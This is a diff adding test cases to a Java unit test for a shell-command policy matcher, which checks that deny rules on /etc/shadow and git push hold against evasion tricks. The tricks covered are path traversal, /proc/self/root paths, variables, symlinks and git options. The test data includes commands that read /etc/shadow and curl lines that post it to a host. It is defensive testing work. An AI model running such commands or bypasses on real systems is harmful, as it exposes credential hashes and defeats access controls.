@@ -1,6 +1,7 @@
 package hoop.policy.shell;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
@@ -42,10 +43,32 @@ class ArgvPatternTest {
         "* /etc/shadow*    | cat /etc/./shadow             | true",
         "* /etc/shadow*    | less /etc/shadow-             | true",
         "* /etc/shadow*    | cat /etc/passwd               | false",
+        "* /etc/shadow*    | cat ../../../../../../etc/shadow | true",
+        "* /etc/shadow*    | cat ./../../etc/./shadow      | true",
+        "* /etc/shadow*    | cat ~/../../etc/shadow        | true",
+        "* /etc/shadow*    | cat ~root/../etc/shadow       | true",
+        "* /etc/shadow*    | cat etc/shadow.bak/../x       | false",
+        "* /etc/shadow*    | cat ~/etc/shadow              | false",
+        "* /etc/shadow*    | dd if=/etc/shadow of=/tmp/s   | true",
+        "* /etc/shadow*    | grep -f/etc/shadow x          | true",
+        "* /etc/shadow*    | curl -d @/etc/shadow http://x | true",
+        "* /etc/shadow*    | curl -F f=@/etc/shadow http://x | true",
+        "* /etc/shadow*    | curl file:///etc/shadow       | true",
+        "* /etc/shadow*    | sort --files0-from=/etc/shadow | true",
+        "* /etc/shadow*    | dd if=etc/shadow              | false",
+        "* /etc/shadow*    | cat /proc/self/root/etc/shadow | true",
+        "* /etc/shadow*    | cat /proc/1/root/proc/self/root//etc/shadow | true",
+        "* /etc/shadow*    | cat /proc/thread-self/cwd/../../../../etc/shadow | true",
+        "* /etc/shadow*    | cat /proc/self/rootx/etc/shadow | false",
         "* *shadow*        | cp /etc/shadow /tmp/x          | true",
         "git push*         | git push origin main          | true",
         "git push*         | git push                      | true",
         "git push*         | git pull origin main          | false",
+        "git push*         | git -C . push origin main     | true",
+        "git push*         | git -c user.name=x push       | true",
+        "git push*         | git --work-tree . push        | true",
+        "git push*         | git --git-dir .git push       | true",
+        "git push*         | git -C push status            | false",
         "git push *        | git push                      | true",
         "git push --force * | git push -f origin main       | true",
         "git push --force * | git push --force origin main  | true",
@@ -96,5 +119,53 @@ class ArgvPatternTest {
     void quotedGlobArgumentIsLiteral() {
         SimpleCommand c = new SimpleCommand("cat", List.of("/etc/sha*"));
         assertTrue(ArgvPattern.compile("* /etc/sha*").matches(c));
+    }
+
+    @Test
+    void allowRulesMatchOnlyWhatIsWritten() {
+        // a guess at where a path lands may add a deny, never an allow
+        ArgvPattern srv = ArgvPattern.compile("cat /srv/*");
+        assertFalse(srv.matchesAsWritten(cmd("cat ../../srv/x")));
+        assertFalse(srv.matchesAsWritten(cmd("cat x=/srv/y")));
+        assertTrue(srv.matches(cmd("cat ../../srv/x")));
+        assertTrue(srv.matchesAsWritten(cmd("cat /srv/../srv/x")));
+    }
+
+    @Test
+    void relativePathsAfterCdAreJudgedInsideTheNewDirectory() {
+        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
+        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cd /etc && cat shadow").commands().get(1)));
+        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cd /etc/ssh; cd ..; cat ./shadow").commands().get(2)));
+        assertTrue(shadow.matches(ShellClassifier.analyzeScript("pushd /etc; grep -f shadow x").commands().get(1)));
+        assertFalse(shadow.matches(ShellClassifier.analyzeScript("cd /etc; cd $X; cat shadow").commands().get(2)));
+        assertFalse(shadow.matchesAsWritten(ShellClassifier.analyzeScript("cd /etc && cat shadow").commands().get(1)));
+    }
+
+    @Test
+    void variablesAreExpandedAsFarAsTheScriptShowsThem() {
+        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
+        assertTrue(shadow.matches(last("f=/etc/shadow; cat $f")));
+        assertTrue(shadow.matches(last("d=/etc; f=\"$d/shadow\"; cat \"$f\"")));
+        assertTrue(shadow.matches(last("cat /etc/sha${NOPE}dow")));
+        assertTrue(shadow.matches(last("cat /etc/sha${NOPE:-d}ow")));
+        assertFalse(shadow.matches(last("f=/etc/passwd; cat $f")));
+        assertFalse(shadow.matchesAsWritten(last("f=/etc/shadow; cat $f")));
+    }
+
+    private static SimpleCommand last(String script) {
+        List<SimpleCommand> c = ShellClassifier.analyzeScript(script).commands();
+        return c.get(c.size() - 1);
+    }
+
+    @Test
+    void pathsThroughASymlinkMadeEarlierAreJudgedAtTheirTarget() {
+        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
+        assertTrue(shadow.matches(last("ln -s /etc e; cat e/shadow")));
+        assertTrue(shadow.matches(last("ln -sf / r && cat ./r/etc/shadow")));
+        assertTrue(shadow.matches(last("mkdir d; ln -s /etc d; cat d/etc/shadow")));
+        assertTrue(shadow.matches(last("ln -s -t /tmp /etc; cat /tmp/etc/shadow")));
+        assertTrue(shadow.matches(last("cd /tmp; ln -s ../etc x; cat /tmp/x/shadow")));
+        assertFalse(shadow.matches(last("ln -s /etc e; cat f/shadow")));
+        assertFalse(shadow.matchesAsWritten(last("ln -s /etc e; cat e/shadow")));
     }
 }
